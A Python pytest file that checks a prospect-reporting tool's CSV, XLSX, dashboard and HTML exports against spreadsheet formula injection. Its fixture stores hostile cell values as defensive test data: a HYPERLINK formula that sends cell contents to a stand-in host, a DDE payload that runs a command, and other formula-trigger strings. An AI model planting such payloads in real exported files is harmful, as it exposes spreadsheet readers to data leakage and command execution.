"""Exports that cannot attack their reader: formula injection (issue 13), every path."""

from __future__ import annotations

import base64
import csv
import io
import re

import openpyxl
import pandas as pd
import pytest

from prospects import db, exports, reports
from prospects.api import open_firm
from prospects.cli import main
from prospects.dashboard import Dashboard
from prospects.sample import sample_firm

TODAY = "2026-11-29"
HYPERLINK = '=HYPERLINK("http://x?"&A1,"Click")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = (HYPERLINK, DDE, "+33 1 23 45 67 89", "-2+3", "@SUM(A1:A9)", "\tTab", "\rRetour")


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory):
    """Cabinet Exemple whose prospect, deal, document and mission texts are formulas."""
    tables = sample_firm()
    deals, docs, lines = tables["deals"], tables["documents"], tables["document_lines"]
    deals.loc[deals["id"] == "D1", ["name", "prospect_name"]] = [DDE, HYPERLINK]
    deals.loc[deals["id"] == "D7", "prospect_name"] = "@SUM(A1:A9)"
    docs.loc[docs["id"] == "X1", ["title", "template"]] = ["-2+3", "\tTab"]
    docs.loc[docs["id"] == "X9", "doc_type"] = "+33 1 23 45 67 89"
    lines.loc[lines["document_id"] == "X1", "mission"] = "\rRetour"
    tables["org_units"].loc[tables["org_units"]["id"] == "T1", "name"] = "=1+1"
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'hostile.db'}"
    db.replace_all(db.make_engine(url), tables)
    return url


def _every_text_cell_is_a_string(book: openpyxl.Workbook) -> list:
    """All cell values of a workbook, asserting no cell is a formula."""
    values = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def _assert_csv_neutralised(text: str, sep: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=sep))
    for row in rows:
        for cell in row:
            assert not cell.startswith(exports.FORMULA_TRIGGERS), cell
    flat = [c for r in rows for c in r]
    assert "'" + HYPERLINK in flat and "'" + DDE in flat and "'@SUM(A1:A9)" in flat
    return rows


def test_cli_drilldown_csv_and_xlsx_write_formulas_as_text(capsys, hostile_url, tmp_path):
    args = ["--db", hostile_url, "--today", TODAY, "drilldown", "--user", "dir", "--unit", "F", "--indicator", "signed_budget",
            "--by", "document"]
    assert main([*args, "--format", "csv"]) == 0
    rows = _assert_csv_neutralised(capsys.readouterr().out, ";")
    head = rows[0]
    x1 = next(r for r in rows if r[0] == "X1")
    assert x1[head.index("Titre")] == "'-2+3" and x1[head.index("Modèle")] == "'\tTab"
    assert x1[head.index("Total (€)")] == "14500,0"  # numbers untouched
    assert main([*args, "--format", "csv", "--output", str(tmp_path / "d.csv")]) == 0
    _assert_csv_neutralised((tmp_path / "d.csv").read_text("utf-8-sig"), ";")
    target = tmp_path / "d.xlsx"
    assert main([*args, "--format", "xlsx", "--output", str(target)]) == 0
    capsys.readouterr()
    book = openpyxl.load_workbook(target)
    values = _every_text_cell_is_a_string(book)
    assert HYPERLINK in values and DDE in values and "-2+3" in values  # the text, verbatim
    sheet = book["Par document"]
    head = [c.value for c in sheet[1]]
    x1 = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "X1")
    prospect = x1[head.index("Prospect")]
    assert (prospect.value, prospect.data_type, prospect.quotePrefix) == (HYPERLINK, "s", True)
    assert x1[head.index("Total (€)")].data_type == "n" and x1[head.index("Total (€)")].value == 14500
    mission = next(r for r in book["Lignes"].iter_rows(min_row=2) if r[0].value == "X1")[1]
    # the leading CR is kept as Excel's own escape (Excel shows a carriage return; openpyxl reads the escape)
    assert (mission.value, mission.data_type) == ("_x000D_Retour", "s")


def test_dashboard_downloads_write_formulas_as_text(hostile_url):
    board = Dashboard(open_firm(hostile_url, today=TODAY), "dir")
    board.region.value = "F"
    board.open_cell("signed_budget")
    for by in ("deal", "document"):
        board.drill_by.value = by
        links = board.drill_downloads.value
        payload = re.search(r'class="pr-download-csv"[^>]*base64,([^"]+)"', links).group(1)
        _assert_csv_neutralised(base64.b64decode(payload).decode("utf-8"), ";")
        payload = re.search(r'class="pr-download-xlsx"[^>]*base64,([^"]+)"', links).group(1)
        values = _every_text_cell_is_a_string(openpyxl.load_workbook(io.BytesIO(base64.b64decode(payload))))
        assert HYPERLINK in values and DDE in values


def test_report_tables_mark_formula_like_text_as_text_for_excel(hostile_url):
    rep = reports.build("dir", "R1", today=TODAY, db_url=hostile_url)
    page = str(rep.top_offers())
    cell = re.search(r"<td([^>]*)>=HYPERLINK\(&quot;http://x\?&quot;&amp;A1,&quot;Click&quot;\)</td>", page)
    assert cell and cell.group(1) == " style=\"mso-number-format:'\\@'\""
    assert re.search(r"<td style=\"mso-number-format:'\\@'\">@SUM\(A1:A9\)</td>", page)
    assert "<td>Paul Associé</td>" in page  # ordinary text unchanged


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_is_neutralised():
    frame = pd.DataFrame({
        "text": pd.Series(["-5", "ok", None, HYPERLINK], dtype=object),
        "amount": [-12.5, 0.0, 3.25, -1.0],
        "count": pd.Series([-1, 2, 3, 4], dtype="int64"),
        "str_dtype": pd.Series(["=1+1", "a", "b", "+c"], dtype="str"),
    })
    out = exports.neutralised(frame)
    assert out["text"].tolist() == ["'-5", "ok", None, "'" + HYPERLINK]
    assert out["str_dtype"].tolist() == ["'=1+1", "a", "b", "'+c"]
    assert out["amount"].tolist() == [-12.5, 0.0, 3.25, -1.0] and out["count"].tolist() == [-1, 2, 3, 4]
    import xlsxwriter

    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"strings_to_formulas": False})
    exports.write_sheet(book, frame, "S")
    book.close()
    sheet = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))["S"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [(r[1].value, r[1].data_type) for r in rows] == [(-12.5, "n"), (0, "n"), (3.25, "n"), (-1, "n")]
    assert [(r[2].value, r[2].data_type) for r in rows] == [(-1, "n"), (2, "n"), (3, "n"), (4, "n")]
    assert (rows[0][0].value, rows[0][0].data_type) == ("-5", "s")
    assert (rows[0][3].value, rows[0][3].data_type) == ("=1+1", "s")


def test_the_canonical_export_is_verbatim_it_must_round_trip(capsys, hostile_url, tmp_path):
    """`prospects export` is the documented exception: the extract reloads identically."""
    assert main(["--db", hostile_url, "export", str(tmp_path / "out")]) == 0
    capsys.readouterr()
    deals = pd.read_csv(tmp_path / "out" / "deals.csv", dtype=str, keep_default_na=False)
    assert deals.loc[deals["id"] == "D1", "prospect_name"].item() == HYPERLINK
